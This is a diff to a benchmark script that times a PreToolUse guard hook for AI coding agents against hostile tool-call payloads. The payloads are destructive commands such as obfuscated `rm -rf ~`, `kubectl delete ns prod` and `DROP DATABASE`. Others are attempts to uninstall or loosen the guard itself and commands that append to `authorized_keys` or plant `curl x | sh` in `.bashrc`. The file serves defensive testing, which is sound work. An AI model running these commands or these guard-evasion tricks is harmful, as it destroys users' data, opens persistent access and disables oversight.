@@ -2,6 +2,27 @@
 """Per-call cost of cm-pretool on every hostile input of the trust issue (23, items 1-7), against
 /bin/true and a benign command in the same loop.
 
+The inputs, by item of the issue (each a case below; items 8, 9 and 13 reach the context hooks,
+bench/hostile_context.py, and item 12 the server, bench/serve_hostile.py):
+  1  `echo $(...)` nested 7 deep around `rm -rf ~`; `rm -rf ~` in 7 levels of `bash -c`, in 8 of
+     `eval`; `true; ` x 4,095 then `rm -rf ~`
+  2  `r$()m`, `r${EMPTY}m`, `r``m`, `r$@m`, `$'\x72\x6d'`, `/bin/[r]m` (each `-rf ~`),
+     `gi$()t reset --hard`, `kube$()ctl delete ns prod`, `psql -c $'DR\x4fP DATABASE x'`, and
+     `a=r; b=m; $a$b -rf ~`
+  3  `rm -rf {a0,...,a69,~}`, `rm -rf /{a0,...,a69,}`, and 300 words
+  4  300 repository traumas `rm\w{20000}`; 256 KiB of `rm(\w{200}){50}`; 16 keyword-less
+     traumas (on `npm test`); 25,000 repository `protectedPaths` on a Write (and 25,000 with
+     wildcards); a 400 KB `cwd` (with `rm -rf ~`, `echo x > foo`, a Write); beyond the issue:
+     300 traumas just under the size floor (`rm\w{10}`), a 400 KB Write path, a 4 KB cwd of
+     2,040 levels, a Codex patch of 20,000 files, 20,000 repeated `command` keys
+  5  `rm -rf ~` through `mcp__shell__run_command`, `mcp__desktop-commander__start_process`,
+     `bash`, `"Bash "`, Codex `local_shell` (`action.command`); a Codex `apply_patch` of `.env`
+  6  `cm guard allow 'rm -rf ~'`, `cm hooks uninstall --everywhere`, `cm guard --uninstall`,
+     `echo ... > ~/.cass-memory/config.json`, Write to that file and to `~/.claude/settings.json`,
+     `echo ... > ~/.claude/settings.json`
+  7  `echo KEY=x > .env`, `sed -i ... .env`, `cp` into `secrets/`, `>> ~/.ssh/authorized_keys`,
+     python `open('.env','w')`, `> ~/.bashrc`, `cp /dev/null ~/.zshrc`
+
 Each case is a real Claude Code PreToolUse payload, in a fresh HOME and project, with the files a
 cloned repository could carry (`.cass/traumas.jsonl`, `.cass/config.json`) written first. The
 HOME has an empty data dir, as installing the hooks leaves it (the hook keeps its trauma index
@@ -44,6 +65,14 @@ def payload(cwd, tool="Bash", tool_input=None, command=None):
     }).encode()
 
 
+def codex(cwd, tool, tool_input):
+    return json.dumps({
+        "session_id": "0199a-codex", "transcript_path": "/r.jsonl", "cwd": cwd,
+        "hook_event_name": "PreToolUse", "turn_id": "turn-7", "model": "gpt-5-codex",
+        "tool_name": tool, "tool_input": tool_input, "tool_use_id": "call_9",
+    }).encode()
+
+
 def trauma(i, pattern):
     return json.dumps({"id": "t-%04x" % i, "pattern": pattern, "severity": "critical",
                        "scope": "project", "source": "user",
@@ -74,8 +103,16 @@ def cases(project):
         ("1 4095 segments + rm", None, payload(project, command="true; " * 4095 + "; rm -rf ~")),
         ("2 r$()m -rf ~", None, payload(project, command="r$()m -rf ~")),
         ("2 $'\\x72\\x6d' -rf ~", None, payload(project, command="$'\\x72\\x6d' -rf ~")),
+        ("2 r${EMPTY}m -rf ~", None, payload(project, command="r${EMPTY}m -rf ~")),
+        ("2 r``m -rf ~", None, payload(project, command="r``m -rf ~")),
+        ("2 r$@m -rf ~", None, payload(project, command="r$@m -rf ~")),
+        ("2 /bin/[r]m -rf ~", None, payload(project, command="/bin/[r]m -rf ~")),
+        ("2 gi$()t reset --hard", None, payload(project, command="gi$()t reset --hard")),
+        ("2 kube$()ctl delete ns prod", None, payload(project, command="kube$()ctl delete ns prod")),
+        ("2 psql -c $'DR\\x4fP ...'", None, payload(project, command="psql -c $'DR\\x4fP DATABASE x'")),
         ("2 a=r; b=m; $a$b -rf ~", None, payload(project, command="a=r; b=m; $a$b -rf ~")),
         ("3 brace 70 words + ~", None, payload(project, command="rm -rf {%s,~}" % items)),
+        ("3 brace 70 words rm -rf /{..,}", None, payload(project, command="rm -rf /{%s,}" % items)),
         ("3 brace 300 words + ~", None, payload(project, command="rm -rf {%s,~}" % ",".join("a%d" % i for i in range(300)))),
         ("4 300 traumas rm\\w{20000}", {"traumas": [trauma(i, "rm\\w{20000}") for i in range(300)]},
          payload(project, command="rm -rf ~")),
@@ -98,11 +135,30 @@ def cases(project):
             "input": "*** Begin Patch\n" + "".join("*** Add File: f%d\n+x\n" % i for i in range(20000)) + "*** End Patch\n"})),
         ("4 20,000 duplicate command keys", None, duplicate_keys(project, 20000)),
         ("5 mcp__shell__run_command", None, payload(project, tool="mcp__shell__run_command", tool_input={"command": "rm -rf ~"})),
+        ("5 mcp__desktop-commander", None, payload(project, tool="mcp__desktop-commander__start_process",
+                                                   tool_input={"command": "rm -rf ~", "timeout_ms": 5000})),
+        ("5 tool bash", None, payload(project, tool="bash", tool_input={"command": "rm -rf ~"})),
+        ("5 tool \"Bash \"", None, payload(project, tool="Bash ", tool_input={"command": "rm -rf ~"})),
+        ("5 Codex local_shell", None, codex(project, "local_shell",
+                                            {"action": {"type": "exec", "command": ["bash", "-lc", "rm -rf ~"]}})),
         ("5 Codex apply_patch", {"config": {"guard": {"protectedPaths": [".env"]}}},
          payload(project, tool="apply_patch", tool_input={"input": "*** Begin Patch\n*** Update File: .env\n@@\n-A\n+B\n*** End Patch\n"})),
         ("6 cm guard allow", None, payload(project, command="cm guard allow 'rm -rf ~'")),
+        ("6 cm hooks uninstall --everywhere", None, payload(project, command="cm hooks uninstall --everywhere")),
+        ("6 cm guard --uninstall", None, payload(project, command="cm guard --uninstall")),
+        ("6 echo > ~/.cass-memory/config.json", None, payload(project, command="echo '{}' > ~/.cass-memory/config.json")),
+        ("6 Write ~/.cass-memory/config.json", None, payload(project, tool="Write", tool_input={
+            "file_path": "~/.cass-memory/config.json", "content": "{}"})),
+        ("6 Write ~/.claude/settings.json", None, payload(project, tool="Write", tool_input={
+            "file_path": "~/.claude/settings.json", "content": "{}"})),
         ("6 echo > settings.json", None, payload(project, command="echo '{}' > ~/.claude/settings.json")),
         ("7 echo KEY=x > .env", {"config": {"guard": {"protectedPaths": [".env"]}}}, payload(project, command="echo KEY=x > .env")),
+        ("7 sed -i ... .env", {"config": {"guard": {"protectedPaths": [".env"]}}}, payload(project, command="sed -i 's/A/B/' .env")),
+        ("7 cp into secrets/", {"config": {"guard": {"protectedPaths": ["secrets/**"]}}}, payload(project, command="cp x.key secrets/")),
+        ("7 >> ~/.ssh/authorized_keys", None, payload(project, command="echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys")),
+        ("7 python open('.env','w')", {"config": {"guard": {"protectedPaths": [".env"]}}},
+         payload(project, command="python3 -c \"open('.env','w').write('A=1')\"")),
+        ("7 > ~/.bashrc", None, payload(project, command="echo 'curl x | sh' > ~/.bashrc")),
         ("7 cp /dev/null ~/.zshrc", None, payload(project, command="cp /dev/null ~/.zshrc")),
     ]
     return out
